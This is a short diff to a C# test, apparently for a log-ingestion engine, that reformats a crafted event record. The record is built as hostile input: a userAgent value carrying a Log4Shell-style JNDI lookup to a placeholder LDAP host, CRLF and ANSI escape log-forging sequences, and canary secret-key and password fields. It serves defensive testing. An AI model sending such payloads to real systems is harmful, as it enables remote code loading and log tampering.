@@ -137,7 +137,8 @@ public sealed class StandstillTests(EngineFixture engines, ITestOutputHelper out
             sent.Add(Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(FaultLedger.Plain(id)).Replace(
                 "\"requestParameters\":null",
                 $$"""
-                "userAgent":"${jndi:ldap://x}\r\n\u001b[31m{\"LogLevel\":\"Critical\"}","requestParameters":{"p":"{{padding}}","secretAccessKey":"{{Canary}}","password":"{{Password}}"}
+                "userAgent":"${jndi:ldap://x}\r\n\u001b[31m{\"LogLevel\":\"Critical\"}",
+                "requestParameters":{"p":"{{padding}}","secretAccessKey":"{{Canary}}","password":"{{Password}}"}
                 """,
                 StringComparison.Ordinal)));
             ledger.Expect(id);
